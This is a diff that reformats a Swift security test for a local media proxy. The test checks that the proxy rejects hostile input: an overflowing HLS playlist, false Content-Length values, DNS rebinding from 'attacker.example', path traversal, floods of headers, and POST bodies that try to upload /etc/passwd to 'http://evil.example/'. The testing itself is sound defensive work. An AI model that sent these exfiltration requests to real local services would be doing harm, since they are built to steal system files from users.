@@ -18,7 +18,8 @@ import TunerTesting
         let served = workspace.file("served")
         try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
         // A playlist whose numbers overflow any unchecked sum: byte ranges, a map range, sequence numbers.
-        try Data("""
+        try Data(
+            """
             #EXTM3U
             #EXT-X-VERSION:7
             #EXT-X-TARGETDURATION:4
@@ -37,7 +38,8 @@ import TunerTesting
             #EXT-X-DISCONTINUITY
             #EXTINF:4,
             ok.ts
-            """.utf8).write(to: URL(fileURLWithPath: served + "/hostile.m3u8"))
+            """.utf8
+        ).write(to: URL(fileURLWithPath: served + "/hostile.m3u8"))
         try Data(repeating: 0x47, count: 4096).write(to: URL(fileURLWithPath: served + "/ok.ts"))
         try Data(repeating: 0x47, count: 4096).write(to: URL(fileURLWithPath: served + "/seg.ts"))
         origin.serveDirectory(served)
@@ -62,11 +64,15 @@ import TunerTesting
         #expect(try await fetch(file, ["-H", "Range: bytes=0-99999999999999999999999"]).status == 200)
 
         // Origin numbers: a lying Content-Length, a body that ignores Range.
-        let lying = try await TunerProcess.proxyURL(for: "\(origin.baseURL)/files/lying.bin?size=5000&badlength=-4000", data: data)
+        let lying = try await TunerProcess.proxyURL(
+            for: "\(origin.baseURL)/files/lying.bin?size=5000&badlength=-4000", data: data)
         _ = try await fetch(lying)
-        let ignoring = try await TunerProcess.proxyURL(for: "\(origin.baseURL)/files/norange.bin?size=300000&norange=1", data: data)
+        let ignoring = try await TunerProcess.proxyURL(
+            for: "\(origin.baseURL)/files/norange.bin?size=300000&norange=1", data: data)
         let ranged = try await fetch(ignoring, ["-H", "Range: bytes=200000-200099"])
-        #expect(ranged.status == 206 && ranged.body == Array(TestOrigin.content(name: "norange.bin", range: 200_000..<200_100)))
+        #expect(
+            ranged.status == 206
+                && ranged.body == Array(TestOrigin.content(name: "norange.bin", range: 200_000..<200_100)))
 
         // The hostile playlist, rewritten; its segments are pre-fetched with no user action.
         let playlist = try await TunerProcess.proxyURL(for: "\(origin.baseURL)/static/hostile.m3u8", data: data)
@@ -74,7 +80,9 @@ import TunerTesting
         #expect(rewritten.status == 200, "\(String(decoding: rewritten.body, as: UTF8.self))")
         let text = String(decoding: rewritten.body, as: UTF8.self)
         #expect(text.contains("/stream/") && !text.contains(origin.baseURL), "\(text)")
-        for _ in 0..<100 where origin.requests(path: "/static/ok.ts") == 0 { try await Task.sleep(for: .milliseconds(50)) }
+        for _ in 0..<100 where origin.requests(path: "/static/ok.ts") == 0 {
+            try await Task.sleep(for: .milliseconds(50))
+        }
         #expect(origin.requests(path: "/static/ok.ts") > 0, "the segment after the hostile ones is pre-fetched")
 
         // Query numbers.
@@ -84,20 +92,29 @@ import TunerTesting
         }
 
         // What any web page the user opens could send to 127.0.0.1.
-        let plainText = try await fetch(api + "/transfers", [
-            "-X", "POST", "-H", "Content-Type: text/plain",
-            "--data", #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"http://evil.example/"}}"#,
-        ])
+        let plainText = try await fetch(
+            api + "/transfers",
+            [
+                "-X", "POST", "-H", "Content-Type: text/plain",
+                "--data",
+                #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"http://evil.example/"}}"#,
+            ])
         #expect(plainText.status == 415)
-        let foreign = try await fetch(api + "/transfers", [
-            "-X", "POST", "-H", "Content-Type: application/json", "-H", "Origin: http://evil.example",
-            "--data", #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"http://evil.example/"}}"#,
-        ])
+        let foreign = try await fetch(
+            api + "/transfers",
+            [
+                "-X", "POST", "-H", "Content-Type: application/json", "-H", "Origin: http://evil.example",
+                "--data",
+                #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"http://evil.example/"}}"#,
+            ])
         #expect(foreign.status == 403)
-        let outsideFiles = try await fetch(api + "/transfers", [
-            "-X", "POST", "-H", "Content-Type: application/json",
-            "--data", #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"\#(origin.baseURL)/sink/x"}}"#,
-        ])
+        let outsideFiles = try await fetch(
+            api + "/transfers",
+            [
+                "-X", "POST", "-H", "Content-Type: application/json",
+                "--data",
+                #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"\#(origin.baseURL)/sink/x"}}"#,
+            ])
         #expect(outsideFiles.status == 403)
         #expect(origin.requests(path: "/sink/x") == 0)
         let rebinding = try await RawHTTP.get(port: port, target: "/api/v1/sources", host: "attacker.example")
@@ -106,9 +123,11 @@ import TunerTesting
         #expect(traversal.status == 400)
 
         // Headers past every limit: refused, connection closed, nothing else disturbed.
-        let many = try await RawHTTP.get(port: port, target: "/api/v1/health", headers: (0..<500).map { "X-Filler-\($0): x" })
+        let many = try await RawHTTP.get(
+            port: port, target: "/api/v1/health", headers: (0..<500).map { "X-Filler-\($0): x" })
         #expect(many.status == 400)
-        let huge = try await RawHTTP.get(port: port, target: "/api/v1/health", headers: ["X-Big: " + String(repeating: "a", count: 1 << 20)])
+        let huge = try await RawHTTP.get(
+            port: port, target: "/api/v1/health", headers: ["X-Big: " + String(repeating: "a", count: 1 << 20)])
         #expect(huge.status == 400 || huge.status == 431 || huge.status == 0)
 
         // Still up, and nothing fatal happened on the way.
